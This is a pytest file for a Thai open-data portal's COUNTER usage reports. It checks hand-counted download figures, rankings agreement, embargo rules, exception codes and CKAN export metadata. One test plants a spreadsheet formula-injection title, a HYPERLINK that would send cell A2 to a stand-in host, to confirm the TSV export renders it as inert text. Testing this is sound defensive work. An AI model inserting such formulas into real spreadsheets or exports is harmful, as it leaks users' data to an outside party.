"""COUNTER DSR and usage exports: hand-counted figures, agreement with the rankings, structure.

The fixture (Thai time, the tiny portal of tests/views/site.py):

covid-daily (ddc), February 2023
  client A  09:00:00 landing page, 09:05:00 + 09:05:20 download (a double click: one),
            09:40:00 download                       -> requests 2, investigations 3, 1 session
  client B  14:00:00 download                      -> requests 1, investigations 1, 1 session
  script S  (python-requests) 10:00:00 + 10:00:10 download (one), 10:01:00 landing page,
            10:30:00 download, 11:15:00 download   -> machine requests 3 in 2 sessions,
                                                      machine investigations 4 in 2 sessions
  Googlebot 12 Feb download                        -> a robot: never counted
  Regular Feb: requests 3, unique 2, investigations 4, unique 2.
covid-daily, client B 2023-03-01 00:10 +07:00 (still 28 Feb in UTC) -> March: 1/1/1/1
village-fund (cdd), client C 15 Mar 10:00 download, 10:20 landing page -> 1/1/2/1
dengue (ddc), client D 20 Mar landing page         -> investigations only: 0/0/1/1
covid-daily, client A 5 Oct 2023 download          -> FY 2567, outside FY 2566
"""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import duckdb
import jsonschema
import polars as pl
import pytest

from analytics import counter_report, rankings, usage_export
from analytics.periods import Period, date_range, fiscal_year
from decisions.auth import User
from decisions.usage_exports import dsr_bytes, visible_usage
from tests.analytics.build import ROBOT, SCRIPT, database
from tests.analytics.dsr_schema import DSR_SCHEMA
from tests.ingest.logkit import at, line
from tests.views import site

CREATED = date(2026, 11, 29)
STAFF = User("s", "staff")
PUBLIC = User("p", "public")


def _ds(name: str) -> tuple[str, str]:
    ds_id, _, _, resources = site.DATASETS[name]
    return f"/dataset/{name}", f"/dataset/{ds_id}/resource/{resources[0][0]}/download/data"


def fixture_lines() -> list[str]:
    covid_page, covid_dl = _ds("covid-daily")
    village_page, village_dl = _ds("village-fund")
    dengue_page, _ = _ds("dengue")
    a, b, c, d, s, r = (f"198.51.100.{n}" for n in range(1, 7))
    return [
        line(at("2023-02-10 09:00:00"), covid_page, ip=a),
        line(at("2023-02-10 09:05:00"), covid_dl, ip=a),
        line(at("2023-02-10 09:05:20"), covid_dl, ip=a),
        line(at("2023-02-10 09:40:00"), covid_dl, ip=a),
        line(at("2023-02-10 14:00:00"), covid_dl, ip=b),
        line(at("2023-02-11 10:00:00"), covid_dl, ip=s, ua=SCRIPT),
        line(at("2023-02-11 10:00:10"), covid_dl, ip=s, ua=SCRIPT),
        line(at("2023-02-11 10:01:00"), covid_page, ip=s, ua=SCRIPT),
        line(at("2023-02-11 10:30:00"), covid_dl, ip=s, ua=SCRIPT),
        line(at("2023-02-11 11:15:00"), covid_dl, ip=s, ua=SCRIPT),
        line(at("2023-02-12 08:00:00"), covid_dl, ip=r, ua=ROBOT),
        line(at("2023-03-01 00:10:00"), covid_dl, ip=b),
        line(at("2023-03-15 10:00:00"), village_dl, ip=c),
        line(at("2023-03-15 10:20:00"), village_page, ip=c),
        line(at("2023-03-20 09:00:00"), dengue_page, ip=d),
        line(at("2023-10-05 09:00:00"), covid_dl, ip=a),
    ]


# (dataset, month) -> {(access, metric): count}, counted by hand from the docstring
EXPECTED = {
    ("covid-daily", "2023-02"): {
        ("regular", "total-dataset-requests"): 3,
        ("regular", "unique-dataset-requests"): 2,
        ("regular", "total-dataset-investigations"): 4,
        ("regular", "unique-dataset-investigations"): 2,
        ("machine", "total-dataset-requests"): 3,
        ("machine", "unique-dataset-requests"): 2,
        ("machine", "total-dataset-investigations"): 4,
        ("machine", "unique-dataset-investigations"): 2,  # hours 10 and 11
    },
    ("covid-daily", "2023-03"): {
        ("regular", "total-dataset-requests"): 1,
        ("regular", "unique-dataset-requests"): 1,
        ("regular", "total-dataset-investigations"): 1,
        ("regular", "unique-dataset-investigations"): 1,
    },
    ("village-fund", "2023-03"): {
        ("regular", "total-dataset-requests"): 1,
        ("regular", "unique-dataset-requests"): 1,
        ("regular", "total-dataset-investigations"): 2,
        ("regular", "unique-dataset-investigations"): 1,
    },
    ("dengue", "2023-03"): {
        ("regular", "total-dataset-investigations"): 1,
        ("regular", "unique-dataset-investigations"): 1,
    },
}


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return database(tmp_path_factory.mktemp("dsr"), fixture_lines())


@pytest.fixture()
def con(db: Path):
    con = duckdb.connect(str(db), read_only=True)
    con.execute("set TimeZone = 'Asia/Bangkok'")
    yield con
    con.close()


def report_of(con, period: Period, agency: str | None = None, user: User = STAFF) -> dict:
    frame = counter_report.monthly_dataset_usage(con, period, agency=agency)
    as_json = dsr_bytes(
        user,
        frame,
        period,
        fmt="json",
        announced=set(),
        last_day=date(2023, 10, 5),
        created=CREATED,
        agency=agency,
    )
    return json.loads(as_json)


def figures(report: dict) -> dict[tuple[str, str], dict[tuple[str, str], int]]:
    """Return (dataset name, YYYY-MM) -> {(access, metric): count} read from a DSR."""
    found: dict[tuple[str, str], dict[tuple[str, str], int]] = {}
    for item in report["report-datasets"]:
        name = item["uri"].rsplit("/", 1)[1]
        for perf in item["performance"]:
            month = perf["period"]["begin-date"][:7]
            cell = found.setdefault((name, month), {})
            for inst in perf["instance"]:
                key = (inst["access-method"], inst["metric-type"])
                cell[key] = cell.get(key, 0) + inst["count"]
    return found


def test_dsr_holds_the_hand_counted_figures(con) -> None:
    report = report_of(con, fiscal_year(2566))
    jsonschema.validate(report, DSR_SCHEMA)
    assert figures(report) == EXPECTED
    header = report["report-header"]
    assert header["reporting-period"] == {"begin-date": "2022-10-01", "end-date": "2023-09-30"}
    assert (header["report-id"], header["release"], header["created"]) == (
        "DSR",
        "rd1",
        "2026-11-29",
    )
    codes = [e["code"] for e in header["exceptions"]]
    assert codes == [1]  # no countries; nothing withheld, nothing missing
    assert "never stored" in header["exceptions"][0]["data"]


def test_dsr_items_carry_ckan_ids_publisher_and_thai_titles(con) -> None:
    report = report_of(con, fiscal_year(2566))
    by_uri = {item["uri"]: item for item in report["report-datasets"]}
    assert list(by_uri) == [  # by agency name, then dataset name
        "https://data.go.th/dataset/village-fund",
        "https://data.go.th/dataset/covid-daily",
        "https://data.go.th/dataset/dengue",
    ]
    covid = by_uri["https://data.go.th/dataset/covid-daily"]
    assert covid["dataset-title"] == "รายงานผู้ป่วยโควิด-19 รายวัน"
    assert covid["dataset-id"] == [
        {"type": "proprietary", "value": "data.go.th:covid-daily"},
        {"type": "proprietary", "value": "data.go.th:d0000000-0000-4000-8000-000000000001"},
    ]
    assert covid["publisher"] == "กรมควบคุมโรค"
    # a type DataCite's hub knows: the CKAN organization's id as a URN
    assert covid["publisher-id"] == [
        {"type": "urn", "value": "urn:uuid:a0000000-0000-4000-8000-000000000001"}
    ]
    assert (covid["platform"], covid["data-type"], covid["yop"]) == (
        "data.go.th",
        "dataset",
        "2022",
    )
    assert covid["dataset-dates"] == [{"type": "pub-date", "value": "2022-01-05"}]
    assert [p["period"] for p in covid["performance"]] == [
        {"begin-date": "2023-02-01", "end-date": "2023-02-28"},
        {"begin-date": "2023-03-01", "end-date": "2023-03-31"},
    ]
    assert "กองทุนหมู่บ้าน" in json.dumps(report, ensure_ascii=False)


def test_one_agency_report_keeps_its_datasets_only(con) -> None:
    report = report_of(con, fiscal_year(2566), agency="ddc")
    jsonschema.validate(report, DSR_SCHEMA)
    assert set(figures(report)) == {
        ("covid-daily", "2023-02"),
        ("covid-daily", "2023-03"),
        ("dengue", "2023-03"),
    }
    assert {
        "name": "publisher-id",
        "value": "urn:uuid:a0000000-0000-4000-8000-000000000001",
    } in report["report-header"]["report-filters"]


def _ranking_figures(con, period: Period, agency: str | None = None) -> dict:
    """Return the same shape as figures(), read from the rankings of each month."""
    found: dict[tuple[str, str], dict[tuple[str, str], int]] = {}
    pairs = {
        ("regular", "total-dataset-requests"): ("regular", "total_requests"),
        ("regular", "unique-dataset-requests"): ("regular", "unique_requests"),
        ("regular", "total-dataset-investigations"): ("regular", "total_investigations"),
        ("regular", "unique-dataset-investigations"): ("regular", "unique_investigations"),
        ("machine", "total-dataset-requests"): ("machine", "total_requests"),
        ("machine", "unique-dataset-requests"): ("machine", "unique_requests"),
    }
    months = pl.date_range(period.start, period.end, "1mo", eager=True).to_list()
    for first in months:
        month = date_range(first, _month_end(first))
        for (access, metric), (rank_access, rank_metric) in pairs.items():
            frame = rankings.dataset_rankings(
                con, month, metric=rank_metric, access=rank_access, agency=agency
            )
            column = frame[rankings.usage.metric_for(rank_metric, rank_access)]
            for name, value in zip(frame["id"], column, strict=True):
                if value:
                    found.setdefault((name, f"{first:%Y-%m}"), {})[(access, metric)] = value
        # machine investigations: the rankings order by it, the monthly series shows it
        for name in site.DATASETS:
            series = rankings.monthly_usage(con, month, dataset=name, agency=agency)
            value = int(series["machine_investigations"].sum())
            if value:
                cell = found.setdefault((name, f"{first:%Y-%m}"), {})
                cell[("machine", "total-dataset-investigations")] = value
    return found


def _days(n: int):  # noqa: ANN202
    from datetime import timedelta

    return timedelta(days=n)


def _month_end(first: date) -> date:
    return (first.replace(day=28) + _days(4)).replace(day=1) - _days(1)


MACHINE_UNIQUE = ("machine", "unique-dataset-investigations")  # no ranking orders by it


def _ranked(found: dict) -> dict:
    """Return figures() without what no ranking shows (machine unique investigations)."""
    return {k: {m: n for m, n in v.items() if m != MACHINE_UNIQUE} for k, v in found.items()}


def test_report_and_rankings_agree_month_by_month(con) -> None:
    period = fiscal_year(2566)
    assert figures(report_of(con, period)) == EXPECTED
    assert _ranked(EXPECTED) == _ranking_figures(con, period)
    ddc = {k: v for k, v in EXPECTED.items() if k[0] != "village-fund"}
    assert _ranking_figures(con, period, agency="ddc") == _ranked(ddc)
    assert figures(report_of(con, period, agency="ddc")) == ddc


def test_tsv_has_the_counter_header_and_thai_intact(con) -> None:
    period = fiscal_year(2566)
    frame = counter_report.monthly_dataset_usage(con, period)
    tsv = dsr_bytes(
        STAFF,
        frame,
        period,
        fmt="tsv",
        announced=set(),
        last_day=date(2023, 10, 5),
        created=CREATED,
    )
    assert tsv.startswith(b"\xef\xbb\xbf")
    text = tsv.decode("utf-8-sig").split("\n")
    assert [row.split("\t")[0] for row in text[:11]] == [
        "Report_Name",
        "Report_ID",
        "Release",
        "Metric_Types",
        "Report_Filters",
        "Report_Attributes",
        "Exceptions",
        "Reporting_Period",
        "Created",
        "Created_By",
        "",
    ]
    assert text[0] == "Report_Name\tDataset Master Report"
    assert text[2] == "Release\tRD1"
    assert text[7] == "Reporting_Period\tbegin_date=2022-10-01; end_date=2023-09-30"
    assert text[6].startswith("Exceptions\t1: No country breakdown")
    body = pl.read_csv(tsv, separator="\t", skip_rows=11, encoding="utf8-lossy")
    assert body.columns[:13] == [
        "Dataset_Title",
        "Publisher",
        "Publisher_ID",
        "Creators",
        "Publication_Date",
        "Dataset_Version",
        "DOI",
        "Other_ID",
        "URI",
        "YOP",
        "Access_Method",
        "Metric_Type",
        "Reporting_Period_Total",
    ]
    assert body.columns[13:] == [
        "Oct-2022",
        "Nov-2022",
        "Dec-2022",
        "Jan-2023",
        "Feb-2023",
        "Mar-2023",
        "Apr-2023",
        "May-2023",
        "Jun-2023",
        "Jul-2023",
        "Aug-2023",
        "Sep-2023",
    ]
    covid = body.filter(pl.col("Dataset_Title") == "รายงานผู้ป่วยโควิด-19 รายวัน")
    assert covid.select(
        "Access_Method", "Metric_Type", "Reporting_Period_Total", "Feb-2023"
    ).rows() == [
        ("Regular", "Total_Dataset_Requests", 4, 3),
        ("Regular", "Unique_Dataset_Requests", 3, 2),
        ("Regular", "Total_Dataset_Investigations", 5, 4),
        ("Regular", "Unique_Dataset_Investigations", 3, 2),
        ("Machine", "Total_Dataset_Requests", 3, 3),
        ("Machine", "Unique_Dataset_Requests", 2, 2),
        ("Machine", "Total_Dataset_Investigations", 4, 4),
        ("Machine", "Unique_Dataset_Investigations", 2, 2),
    ]
    assert covid["Publisher"].to_list() == ["กรมควบคุมโรค"] * 8
    assert covid["Creators"].to_list() == [None] * 8  # unknown is blank, never "n/a"
    # dengue: only investigations, so no request rows (CoP-RD: omit zero-total rows)
    dengue = body.filter(pl.col("URI").str.ends_with("/dengue"))
    assert dengue["Metric_Type"].to_list() == [
        "Total_Dataset_Investigations",
        "Unique_Dataset_Investigations",
    ]


def test_embargo_withholds_unannounced_years_from_the_public(con) -> None:
    period = date_range(date(2023, 9, 1), date(2023, 10, 31))  # FY 2566 and FY 2567
    frame = counter_report.monthly_dataset_usage(con, period)
    assert frame["fiscal_year"].unique().sort().to_list() == [2567]  # the 5 Oct download only
    public, withheld = visible_usage(PUBLIC, frame, period, set())
    assert (public.height, withheld) == (0, [2566, 2567])
    public, withheld = visible_usage(PUBLIC, frame, period, {2567})
    assert (public.height, withheld) == (1, [2566])
    staff, withheld = visible_usage(STAFF, frame, period, set())
    assert (staff.height, withheld) == (1, [])
    # an agency sees its own datasets before announcement, not the others'
    ddc, withheld = visible_usage(User("d", "agency", "ddc"), frame, period, set())
    assert (ddc.height, withheld) == (1, [])
    cdd, withheld = visible_usage(User("c", "agency", "cdd"), frame, period, set())
    assert (cdd.height, withheld) == (0, [2567])
    report = report_of(con, fiscal_year(2566), user=PUBLIC)
    jsonschema.validate(report, DSR_SCHEMA)
    assert report["report-datasets"] == []
    # all withheld: not "partial data" with nothing in it, but not authorized (CoP-RD 2010)
    codes = {e["code"]: e for e in report["report-header"]["exceptions"]}
    assert 3040 not in codes and "2566" in codes[2010]["data"]
    ddc = report_of(con, fiscal_year(2566), user=User("d", "agency", "ddc"))
    codes = {e["code"]: e for e in ddc["report-header"]["exceptions"]}
    assert ddc["report-datasets"] and 2010 not in codes and "2566" in codes[3040]["data"]


def test_exceptions_for_periods_without_usage_or_not_yet_processed(con) -> None:
    def codes(first: str, last: str, **kw: object) -> list[tuple[int, str]]:
        found = counter_report.report_exceptions(
            date_range(date.fromisoformat(first), date.fromisoformat(last)),
            date(2024, 9, 30),
            first_day=date(2022, 10, 1),
            **{"has_usage": False, **kw},  # type: ignore[arg-type]
        )
        return [(e["code"], e["data"]) for e in found if e["code"] != 1]

    # before the logs start: not processed, which is not "no dataset was used"
    ((code, data),) = codes("2021-01-01", "2021-01-31")
    assert code == 3030 and "before the logs start" in data
    # after the last processed day: not ready
    ((code, data),) = codes("2030-01-01", "2030-01-31")
    assert code == 3031 and "processed up to 2024-09-30" in data
    # the last month, processed to its last day: nothing partial about it
    assert codes("2024-09-01", "2024-09-30", has_usage=True) == []
    # a month the data ends inside: partial, and said so
    partial = counter_report.report_exceptions(
        date_range(date(2024, 9, 1), date(2024, 9, 30)), date(2024, 9, 20), has_usage=True
    )
    assert [e["code"] for e in partial] == [3031, 1]
    assert partial[0]["message"] == "Usage Not Ready for Requested Dates"  # CoP-RD table B.1
    # in the span, nobody used anything
    ((code, data),) = codes("2023-06-01", "2023-06-30")
    assert code == 3030 and data == "no dataset was used from 2023-06-01 to 2023-06-30"
    # a month the logs start inside: partial, the days before not processed
    started = counter_report.report_exceptions(
        date_range(date(2022, 10, 1), date(2022, 10, 31)),
        date(2024, 9, 30),
        first_day=date(2022, 10, 15),
        has_usage=True,
    )
    assert [e["code"] for e in started] == [3040, 1]
    assert "the days before 2022-10-15 were not processed" in started[0]["data"]


def test_usage_export_table_and_ckan_metadata(con) -> None:
    period = fiscal_year(2566)
    table = usage_export.usage_table(counter_report.monthly_dataset_usage(con, period))
    assert table.columns == list(usage_export.COLUMNS)
    assert table.select("month", "dataset_name", "agency_name", "total_requests").rows() == [
        ("2023-02", "covid-daily", "ddc", 3),
        ("2023-03", "village-fund", "cdd", 1),
        ("2023-03", "covid-daily", "ddc", 1),
        ("2023-03", "dengue", "ddc", 0),
    ]
    feb = table.row(0, named=True)
    assert (feb["machine_requests"], feb["unique_machine_requests"]) == (3, 2)
    assert feb["machine_investigations"] == 4 and feb["fiscal_year"] == 2566
    package = usage_export.ckan_package(
        period, table, owner_org="dga", csv_name="u.csv", created=CREATED, withheld_years=[2567]
    )
    assert package["name"] == "data-go-th-usage-fy2566"
    assert package["owner_org"] == "dga" and package["license_id"]
    assert "ปีงบประมาณ 2566" in package["title"] and "Monthly dataset usage" in package["title"]
    assert "สถิติการใช้ชุดข้อมูล" in package["notes"] and "COUNTER Code of Practice" in package["notes"]
    assert "2567" in package["notes"]  # the withheld year is said, in both languages
    assert package["resources"] == [
        {
            "name": package["resources"][0]["name"],
            "description": package["resources"][0]["description"],
            "format": "CSV",
            "mimetype": "text/csv",
            "url": "u.csv",
        }
    ]
    assert all(c in package["resources"][0]["description"] for c in usage_export.COLUMNS)
    json.dumps(package, ensure_ascii=False)  # plain JSON: package_create takes it as is


def test_tsv_titles_are_inert_text(tmp_path: Path) -> None:
    """An agency-written title that looks like a formula reaches the spreadsheet as text."""
    packages = [site.package(name) for name in site.DATASETS]
    packages[0]["title"] = '=HYPERLINK("http://x/?d="&A2,"")'
    db = database(tmp_path, fixture_lines(), packages)
    con = duckdb.connect(str(db), read_only=True)
    try:
        period = fiscal_year(2566)
        tsv = dsr_bytes(
            STAFF,
            counter_report.monthly_dataset_usage(con, period),
            period,
            fmt="tsv",
            announced=set(),
            last_day=None,
            created=CREATED,
        )
    finally:
        con.close()
    body = pl.read_csv(tsv, separator="\t", skip_rows=11)
    assert set(body["Dataset_Title"]) >= {'\'=HYPERLINK("http://x/?d="&A2,"")'}
    assert "รายงานผู้ป่วยโควิด-19 รายวัน" not in set(body["Dataset_Title"])


def test_a_dataset_that_moved_agency_is_reported_under_each_owner(tmp_path: Path) -> None:
    """Downloads count for the agency that owned the dataset that day, as in the rankings."""
    from ingest.catalog import load_catalog
    from ingest.logs import ingest_logs
    from tests.analytics.build import downloads
    from tests.ingest.logkit import write

    db = database(tmp_path, [])
    moved = site.package("dengue")
    cdd = site.package("village-fund")["organization"]
    moved.update(organization=cdd, owner_org=cdd["id"], metadata_modified="2023-06-01T00:00:00")
    second = tmp_path / "second.json"
    second.write_text(json.dumps({"success": True, "result": moved}), encoding="utf-8")
    load_catalog(db, [second])
    lines = downloads("2023-05-10", "dengue", 2) + downloads("2023-07-10", "dengue", 3, first_ip=40)
    ingest_logs(db, [write(tmp_path / "more.log", lines)])
    con = duckdb.connect(str(db), read_only=True)
    try:
        whole = report_of(con, fiscal_year(2566))
        cdd_only = report_of(con, fiscal_year(2566), agency="cdd")
    finally:
        con.close()
    owners = [
        (item["publisher-id"][0]["value"], item["performance"][0]["period"]["begin-date"])
        for item in whole["report-datasets"]
    ]
    assert owners == [
        ("urn:uuid:a0000000-0000-4000-8000-000000000002", "2023-07-01"),
        ("urn:uuid:a0000000-0000-4000-8000-000000000001", "2023-05-01"),
    ]
    assert figures(whole) == {
        ("dengue", "2023-05"): {
            ("regular", "total-dataset-requests"): 2,
            ("regular", "unique-dataset-requests"): 2,
            ("regular", "total-dataset-investigations"): 2,
            ("regular", "unique-dataset-investigations"): 2,
        },
        ("dengue", "2023-07"): {
            ("regular", "total-dataset-requests"): 3,
            ("regular", "unique-dataset-requests"): 3,
            ("regular", "total-dataset-investigations"): 3,
            ("regular", "unique-dataset-investigations"): 3,
        },
    }
    assert set(figures(cdd_only)) == {("dengue", "2023-07")}
